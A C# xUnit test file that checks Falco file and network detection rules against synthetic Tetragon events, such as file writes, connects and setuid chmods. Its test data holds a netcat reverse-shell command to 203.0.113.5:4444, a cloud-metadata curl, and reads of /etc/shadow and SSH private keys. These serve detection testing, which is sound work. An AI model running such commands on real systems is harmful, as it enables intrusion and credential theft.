using static ZtStream.Verifier.Tests.Rules.Falco.FalcoSyscallTestData;

namespace ZtStream.Verifier.Tests.Rules.Falco;

/// <summary>
/// falcosecurity/rules' file and network rules on the calls Tetragon's TracingPolicies report — file monitoring's
/// <c>security_file_permission</c> (a write: an open for writing; a read: an open for reading), network observability's
/// <c>tcp_connect</c> and <c>security_socket_connect</c> (a connect) — in the export's shape, through Ingest's mapper:
/// each rule beside its near misses, exec rules never on calls nor call rules on execs, and what a call cannot answer
/// refused naming it.
/// </summary>
public sealed class FalcoSyscallCallRuleTests
{
    /// <summary>The three files, the rules they ship disabled among the loaded ones.</summary>
    internal static readonly Lazy<RuleLoadResult> All = new(() =>
        FalcoRuleLoader.LoadAll([StockFile(), RulesFile(IncubatingRules), RulesFile(SandboxRules)]));

    internal static bool Fires(string rule, string line) => Assert.Single(All.Value.Rules, r => r.Id == rule).Condition.Matches(Event(line));

    /// <summary>A file's permission check by <c>security_file_permission</c>, as file monitoring's policy exports it (mask 2 MAY_WRITE, 4 MAY_READ).</summary>
    private static string FileAccess(
        string path, int mask, string binary = "/usr/bin/python3", string pod = "", string permission = "-rw-r--r--", string type = "process_kprobe", string? ancestors = null) =>
        Call(type, type == "process_lsm" ? "file_permission" : "security_file_permission",
            $$"""[{"file_arg":{"mount":"","path":"{{path}}","flags":"","permission":"{{permission}}"},"label":""},{"int_arg":{{mask}},"label":""}]""",
            binary, pod, returned: type == "process_lsm" ? null : """{"int_arg":0}""", ancestors);

    /// <summary>A TCP connection by <c>tcp_connect</c>, its socket as network observability's policy exports it.</summary>
    private static string Connect(string saddr, int sport, string daddr, int dport, string binary = "/usr/bin/curl", string pod = "", string family = "AF_INET") =>
        Call("process_kprobe", "tcp_connect",
            $$$"""[{"sock_arg":{"family":"{{{family}}}","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","mark":0,"priority":0,"saddr":"{{{saddr}}}","daddr":"{{{daddr}}}","sport":{{{sport}}},"dport":{{{dport}}},"cookie":"18446634201557227456","state":"TCP_SYN_SENT"}}]""",
            binary, pod);

    internal static string Call(string type, string function, string args, string binary, string pod, string? returned = null, string? ancestors = null) => $$"""
        {"{{type}}":{"process":{"exec_id":"dHotbm9kZS1hOjkwMDAwMDAwMDAwOjQyMTAx","pid":42101,"uid":0,"cwd":"/app","binary":"{{binary}}","arguments":"-q",
            "flags":"execve clone","start_time":"2026-11-30T09:00:00.123456789Z","auid":4294967295,{{pod}}"parent_exec_id":"dHotbm9kZS1hOjg5OTk5OTk5OTk5OjQyMDk5","refcnt":1},
          "parent":{"exec_id":"dHotbm9kZS1hOjg5OTk5OTk5OTk5OjQyMDk5","pid":42099,"uid":0,"cwd":"/app","binary":"/usr/bin/containerd-shim-runc-v2","flags":"execve clone","start_time":"2026-11-30T08:59:59.990000000Z"},{{(ancestors is null ? "" : $"\"ancestors\":[{ancestors}],")}}
          "function_name":"{{function}}","args":{{args}},{{(returned is null ? "" : $"\"return\":{returned},")}}"action":"KPROBE_ACTION_POST","policy_name":"monitoring","return_action":"KPROBE_ACTION_POST"},
         "node_name":"node-a","time":"2026-11-30T09:00:01.000000000Z"}
        """;

    [Fact]
    public void ThreeFiles_LoadTheFileAndNetworkRulesTetragonsCallsAnswer()
    {
        var loaded = All.Value.Rules.Select(r => r.Id).ToHashSet();
        string[] calls =
        [
            "Modify Shell Configuration File", "Read ssh information", "System procs network activity", "Unexpected UDP Traffic",
            "Contact EC2 Instance Metadata Service From Container", "Contact cloud metadata service from container",
            "Network Connection outside Local Subnet", "Read environment variable from /proc files", "Write below binary dir",
            "Write below monitored dir", "Write below rpm database", "Interpreted procs outbound network activity",
            "Unexpected K8s NodePort Connection", "Privileged Container Device Access", "Container Access to Host Sensitive Paths",
            "Set Setuid or Setgid bit",
        ];
        Assert.All(calls, c => Assert.Contains(c, loaded));
        Assert.All(All.Value.Rules.Where(r => calls.Contains(r.Id)), r => Assert.Contains(EventKinds.RuntimeAlert, r.Kinds));

        // An exec rule still reads execs alone.
        Assert.Equal([EventKinds.RuntimeProcess], Assert.Single(All.Value.Rules, r => r.Id == "Netcat Remote Code Execution in Container").Kinds);
    }

    [Theory]
    [InlineData("Contact K8S API Server From Container", "reads fd.sip.name, which a connection does not carry: it is the name a DNS answer gave the address")]
    [InlineData("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "it requires evt.type = userfaultfd")]
    public void ARuleACallCannotAnswer_IsRefusedNamingWhy(string rule, string reason) =>
        Assert.Contains(All.Value.Errors, e => e.RuleId == rule && e.Reason.Contains(reason, StringComparison.Ordinal));

    [Fact]
    public void WriteBelowBinaryDir_FiresOnAWriteThere_NotOnAReadNorAnotherDirNorAPackageManager()
    {
        Assert.True(Fires("Write below binary dir", FileAccess("/usr/bin/sshd", 2, "/usr/bin/curl")));
        Assert.True(Fires("Write below binary dir", FileAccess("/bin/ls", 2, "/tmp/dropper", pod: Pod(), type: "process_lsm")));

        Assert.False(Fires("Write below binary dir", FileAccess("/usr/bin/sshd", 4, "/usr/bin/curl")));
        Assert.False(Fires("Write below binary dir", FileAccess("/usr/local/bin/tool", 2, "/usr/bin/curl")));
        Assert.False(Fires("Write below binary dir", FileAccess("/usr/bin/sshd", 2, "/usr/bin/dpkg")));
    }

    [Fact]
    public void ReadSshInformation_FiresOnAReadOfAKey_NotByAnSshProgramNorOnAWrite()
    {
        Assert.True(Fires("Read ssh information", FileAccess("/home/alice/.ssh/id_ed25519", 4)));
        Assert.True(Fires("Read ssh information", FileAccess("/root/.ssh/authorized_keys", 4, "/bin/cat", pod: Pod())));

        Assert.False(Fires("Read ssh information", FileAccess("/home/alice/.ssh/id_ed25519", 4, "/usr/bin/ssh")));
        Assert.False(Fires("Read ssh information", FileAccess("/home/alice/.ssh/id_ed25519", 2)));
        Assert.False(Fires("Read ssh information", FileAccess("/home/alice/notes/ssh.txt", 4)));
    }

    /// <summary>
    /// The stock rule reads a file read (Tetragon's MAY_READ) and, in its exceptions, the ancestors above the parent
    /// (chef, Qualys): with both a policy call and Tetragon's ancestors export it loads and is judged whole.
    /// </summary>
    [Fact]
    public void ReadSensitiveFileUntrusted_FiresOnAShadowRead_NotOnAWriteNorByATrustedProgramNorUnderChef()
    {
        Assert.True(Fires("Read sensitive file untrusted", FileAccess("/etc/shadow", 4)));
        Assert.True(Fires("Read sensitive file untrusted", FileAccess("/etc/pam.d/common-auth", 4, "/tmp/x", pod: Pod(), type: "process_lsm")));
        Assert.True(Fires("Read sensitive file untrusted", FileAccess("/etc/sudoers", 4, ancestors: Ancestor("/usr/sbin/nginx"))));

        Assert.False(Fires("Read sensitive file untrusted", FileAccess("/etc/shadow", 2)));
        Assert.False(Fires("Read sensitive file untrusted", FileAccess("/etc/hosts", 4)));
        Assert.False(Fires("Read sensitive file untrusted", FileAccess("/etc/shadow", 4, "/usr/sbin/sshd")));
        Assert.False(Fires("Read sensitive file untrusted", FileAccess("/etc/shadow", 4, ancestors: Ancestor("/opt/chef/bin/chef-client"))));
        Assert.False(Fires("Read sensitive file untrusted", FileAccess("/etc/shadow", 4, ancestors: $"{Ancestor("/bin/sh", pid: 4001)},{Ancestor("/usr/local/qualys/qualys-cloud-ag")}")));
    }

    /// <summary>A repository list written by anything but a package manager — itself, its parent or an ancestor up to the fourth.</summary>
    [Fact]
    public void UpdatePackageRepository_FiresOnAWriteToASourcesList_NotByAPackageManagerAtAnyDepthNorOnARead()
    {
        Assert.True(Fires("Update Package Repository", FileAccess("/etc/apt/sources.list.d/mirror.list", 2, "/usr/bin/curl")));
        Assert.True(Fires("Update Package Repository", FileAccess("/etc/yum.repos.d/extra.repo", 2, "/bin/sh", pod: Pod(), ancestors: Ancestor("/usr/sbin/nginx"))));

        Assert.False(Fires("Update Package Repository", FileAccess("/etc/apt/sources.list.d/mirror.list", 4, "/usr/bin/curl")));
        Assert.False(Fires("Update Package Repository", FileAccess("/etc/apt/sources.list.d/mirror.list", 2, "/usr/bin/apt-get")));
        Assert.False(Fires("Update Package Repository", FileAccess("/etc/yum.repos.d/extra.repo", 2, "/bin/sh", ancestors: Ancestor("/usr/bin/dnf"))));
        Assert.False(Fires("Update Package Repository", FileAccess("/etc/hosts", 2, "/usr/bin/curl")));
    }

    [Fact]
    public void ModifyShellConfigurationFile_FiresOnAWriteToABashrc_NotByAShellNorOnARead()
    {
        Assert.True(Fires("Modify Shell Configuration File", FileAccess("/home/bob/.bashrc", 2)));
        Assert.True(Fires("Modify Shell Configuration File", FileAccess("/etc/profile", 2, "/usr/bin/tee")));

        Assert.False(Fires("Modify Shell Configuration File", FileAccess("/home/bob/.bashrc", 2, "/bin/bash")));
        Assert.False(Fires("Modify Shell Configuration File", FileAccess("/home/bob/.bashrc", 4)));
        Assert.False(Fires("Modify Shell Configuration File", FileAccess("/home/bob/.bashrc.bak", 2)));
    }

    [Fact]
    public void ScheduleCronJobs_FiresOnAWriteBelowEtcCron_AsOnACrontabExec()
    {
        Assert.True(Fires("Schedule Cron Jobs", FileAccess("/etc/cron.d/miner", 2, "/bin/sh", pod: Pod())));
        Assert.True(Fires("Schedule Cron Jobs", FileAccess("/etc/crontab", 2, type: "process_lsm")));
        Assert.True(Fires("Schedule Cron Jobs", Exec("/usr/bin/crontab", "-l")));

        Assert.False(Fires("Schedule Cron Jobs", FileAccess("/etc/cron.d/miner", 4, "/bin/sh")));
        Assert.False(Fires("Schedule Cron Jobs", FileAccess("/var/spool/cron/crontabs/root", 2)));
    }

    /// <summary>A mode change by <c>security_path_chmod</c>: the path (its mode before) and the new mode.</summary>
    private static string Chmod(string path, int mode, string binary = "/bin/chmod", string pod = "") =>
        Call("process_kprobe", "security_path_chmod",
            $$$"""[{"path_arg":{"mount":"","path":"{{{path}}}","flags":"","permission":"-rwxr-xr-x"},"label":"file path"},{"uint_arg":{{{mode}}},"label":"file mode"}]""",
            binary, pod);

    [Fact]
    public void SetSetuidOrSetgidBit_FiresOnAModeWithEither_NotWithoutNorByAnAllowedProgram()
    {
        Assert.True(Fires("Set Setuid or Setgid bit", Chmod("/tmp/rootshell", 0b100_111_101_101))); // 04755
        Assert.True(Fires("Set Setuid or Setgid bit", Chmod("/usr/local/bin/tool", 0b010_111_101_101, "/usr/bin/python3", Pod()))); // 02755

        Assert.False(Fires("Set Setuid or Setgid bit", Chmod("/tmp/rootshell", 0b000_111_101_101))); // 0755
        Assert.False(Fires("Set Setuid or Setgid bit", Chmod("/tmp/rootshell", 0b001_111_111_111))); // 01777: sticky only
        Assert.False(Fires("Set Setuid or Setgid bit", Chmod("/usr/lib/dbus-1.0/dbus-daemon-launch-helper", 0b100_111_101_101, "/usr/bin/kubelet")));
        Assert.False(Fires("Set Setuid or Setgid bit", Exec("/bin/chmod", "u+s /tmp/rootshell")));

        var rule = Local("evt.type in (chmod, fchmod, fchmodat)", "mode %evt.arg.mode %evt.type %evt.arg.filename");
        Assert.Equal("mode S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID chmod <NA>",
            ((FalcoRuleMatcher)rule.Condition).RenderOutput(Event(Chmod("/tmp/rootshell", 0b100_111_101_101))));
    }

    [Fact]
    public void ContainerAccessToHostSensitivePaths_FiresInAPodOnly()
    {
        Assert.True(Fires("Container Access to Host Sensitive Paths", FileAccess("/host/etc/shadow", 4, "/bin/cat", pod: Pod())));
        Assert.True(Fires("Container Access to Host Sensitive Paths", FileAccess("/rootfs/etc/crontab", 2, "/bin/sh", pod: Pod(ns: "shop", name: "web-1", image: "nginx:1.25"))));

        Assert.False(Fires("Container Access to Host Sensitive Paths", FileAccess("/host/etc/shadow", 4, "/bin/cat")));
        Assert.False(Fires("Container Access to Host Sensitive Paths", FileAccess("/etc/shadow", 4, "/bin/cat", pod: Pod())));
    }

    [Fact]
    public void PrivilegedContainerDeviceAccess_FiresOnADiskDevice_NotOnARegularFileOfTheSameName()
    {
        Assert.True(Fires("Privileged Container Device Access", FileAccess("/dev/sda1", 4, "/usr/sbin/debugfs", pod: Pod(), permission: "brw-rw----")));

        // fd.typechar is the file's kind: a directory is 'd', which open_read (fd.typechar='f') is not.
        Assert.False(Fires("Privileged Container Device Access", FileAccess("/dev/sda1", 4, "/usr/sbin/debugfs", pod: Pod(), permission: "drwxr-xr-x")));
        Assert.False(Fires("Privileged Container Device Access", FileAccess("/dev/sda1", 4, "/usr/sbin/debugfs")));
    }

    [Fact]
    public void MetadataServiceRules_FireOnAConnectFromAPod_NotFromTheHostNorToAnotherAddress()
    {
        var fromPod = Connect("10.0.3.7", 41234, "169.254.169.254", 80, pod: Pod());
        Assert.True(Fires("Contact EC2 Instance Metadata Service From Container", fromPod));
        Assert.True(Fires("Contact cloud metadata service from container", fromPod));
        Assert.True(Fires("Contact cloud metadata service from container", Call("process_kprobe", "security_socket_connect",
            """[{"sockaddr_arg":{"family":"AF_INET","addr":"169.254.169.254","port":80}},{"int_arg":16}]""", "/usr/bin/wget", Pod())));

        Assert.False(Fires("Contact cloud metadata service from container", Connect("10.0.3.7", 41234, "169.254.169.254", 80)));
        Assert.False(Fires("Contact cloud metadata service from container", Connect("10.0.3.7", 41234, "203.0.113.9", 80, pod: Pod())));
        Assert.False(Fires("Contact cloud metadata service from container", Connect("10.0.3.7", 41234, "169.254.169.254", 80, pod: Pod(ns: "kube-system"))));

        // The same process's exec, and its write, are no connection.
        Assert.False(Fires("Contact cloud metadata service from container", Exec("/usr/bin/curl", "http://169.254.169.254/", Pod())));
        Assert.False(Fires("Contact cloud metadata service from container", FileAccess("/tmp/169.254.169.254", 2, "/usr/bin/curl", pod: Pod())));
    }

    internal static Rule Local(string condition, string output = "o") => FalcoTestData.Single($"""
        - rule: Local
          desc: x
          condition: {condition}
          output: {output}
          priority: WARNING
        """);

    [Theory]
    [InlineData("evt.type = connect and fd.typechar = 6 and fd.sip = \"2001:db8:ff::9\" and fd.sport = 443", true)]
    [InlineData("evt.type = connect and fd.typechar = 4", false)]
    [InlineData("evt.type = connect and fd.snet = \"2001:db8:ff::/48\"", true)]
    [InlineData("evt.type = connect and fd.cnet = \"2001:db8:ff::/48\"", false)]
    [InlineData("evt.type = connect and fd.net = \"2001:db8:1::/48\" and fd.port = 50000", true)]
    [InlineData("evt.type = connect and fd.ip != \"2001:db8:1::7\"", false)]
    public void Connect_OverIpv6_ReadsTheServersAndClientsEnds(string condition, bool fires) =>
        Assert.Equal(fires, Local(condition).Condition.Matches(Event(Connect("2001:db8:1::7", 50000, "2001:db8:ff::9", 443, family: "AF_INET6"))));

    [Fact]
    public void CallFields_InAnOutput_AreLibsinspsForTheCall()
    {
        var write = Local("evt.type in (open, openat, openat2) and evt.is_open_write = true", "call %evt.type %fd.name %fd.directory %fd.filename %fd.typechar %fd.type %evt.is_open_read %evt.dir");
        Assert.Equal("call openat /etc/cron.d/job /etc/cron.d job f file false <", ((FalcoRuleMatcher)write.Condition).RenderOutput(Event(FileAccess("/etc/cron.d/job", 2))));

        var connect = Local("evt.type = connect", "call %fd.name %fd.lport %fd.rport %fd.l4proto %fd.type %fd.sockfamily %proc.name %container.name");
        Assert.Equal("call 10.0.3.7:41234->203.0.113.9:4444 41234 4444 tcp ipv4 ip curl checkout",
            ((FalcoRuleMatcher)connect.Condition).RenderOutput(Event(Connect("10.0.3.7", 41234, "203.0.113.9", 4444, pod: Pod()))));
    }

    [Fact]
    public void AnExecRule_NeverMatchesACall_NorACallRuleAnExec_AlsoUnderNot()
    {
        // nc's exec fires the stock exec rule; nc's connection, the same process, does not.
        Assert.True(Fires("Netcat Remote Code Execution in Container", Exec("/usr/bin/nc", "-e /bin/sh 203.0.113.5 4444", Pod())));
        Assert.False(Fires("Netcat Remote Code Execution in Container", Connect("10.0.3.7", 41234, "203.0.113.5", 4444, "/usr/bin/nc", Pod())));

        // Every system call but an exec: a connect and a write are, the exec is not.
        var notExec = Local("not evt.type = execve and proc.name = nc");
        Assert.True(notExec.Condition.Matches(Event(Connect("10.0.3.7", 41234, "203.0.113.5", 4444, "/usr/bin/nc"))));
        Assert.True(notExec.Condition.Matches(Event(FileAccess("/tmp/out", 2, "/usr/bin/nc"))));
        Assert.False(notExec.Condition.Matches(Event(Exec("/usr/bin/nc", "-l 4444"))));

        // A condition with no system call in it reads every one, as libsinsp's.
        var any = Local("proc.name = nc");
        Assert.True(any.Condition.Matches(Event(Exec("/usr/bin/nc", "-l 4444"))));
        Assert.True(any.Condition.Matches(Event(Connect("10.0.3.7", 41234, "203.0.113.5", 4444, "/usr/bin/nc"))));

        // A policy's call Ingest names no operation for (an mmap) is no system call a rule reads.
        Assert.False(any.Condition.Matches(Event(Call("process_kprobe", "security_mmap_file", """[{"file_arg":{"path":"/tmp/x"}},{"uint_arg":3}]""", "/usr/bin/nc", ""))));
    }

    [Theory]
    [InlineData("evt.type = openat2 and fd.name = /etc/shadow", "reads evt.type, which a file write does not carry: Tetragon reports the access to the file, not which of openat, open, openat2 opened it")]
    [InlineData("evt.type = connect and evt.rawres = 0", "depends on the call's result (evt.rawres = 0 for some), which Tetragon does not report: it may be SUCCESS or EINPROGRESS")]
    [InlineData("evt.type = connect and fd.num = 3", "reads fd.num, which a connection does not carry")]
    [InlineData("evt.type = connect and fd.num > 2", "reads fd.num, which a connection does not carry")]
    [InlineData("evt.type in (open, openat) and evt.is_open_create = true", "reads evt.is_open_create, which a file opened does not carry")]
    [InlineData("evt.type in (open, openat, openat2) and evt.is_open_create = true", "reads evt.is_open_create, which a file write does not carry: Tetragon's file access does not say whether the open created the file")]
    [InlineData("evt.type = connect and fd.net = 10.0.0.0", "'10.0.0.0' is not a network in CIDR notation")]
    [InlineData("evt.type = connect and fd.cip.name = db", "reads fd.cip.name, which a connection does not carry: it is the name a DNS answer gave the address")]
    [InlineData("evt.type in (chmod, fchmod, fchmodat) and evt.rawres >= 0", "its condition on Tetragon's mode changes depends on the call's result (evt.rawres >= 0 for some), which Tetragon does not report: it may be SUCCESS or EPERM")]
    [InlineData("evt.type = fchmodat", "reads evt.type, which a mode change does not carry: Tetragon reports the call, not which of chmod, fchmodat, fchmod it was")]
    [InlineData("evt.type in (chmod, fchmod, fchmodat) and evt.arg.filename startswith /tmp", "reads evt.arg.filename, which a mode change does not carry")]
    public void ACheckACallCannotAnswer_IsALoadErrorNamingWhy(string condition, string reason)
    {
        var result = LoadRule("Call rule", condition);

        Assert.Contains(reason, Assert.Single(result.Errors).Reason, StringComparison.Ordinal);
        Assert.Empty(result.Rules);
    }

    [Fact]
    public void ConnectResult_ThatHoldsForBothOutcomes_Loads()
    {
        // The stock outbound macro's test: a connect that returned at once or is in progress.
        var rule = Local("evt.type = connect and (evt.rawres >= 0 or evt.res = EINPROGRESS) and fd.num >= 0 and fd.num != -1 and not fd.num < 0 and fd.sport = 4444");
        Assert.True(rule.Condition.Matches(Event(Connect("10.0.3.7", 41234, "203.0.113.5", 4444))));
        Assert.False(rule.Condition.Matches(Event(Connect("10.0.3.7", 41234, "203.0.113.5", 4445))));
    }
}
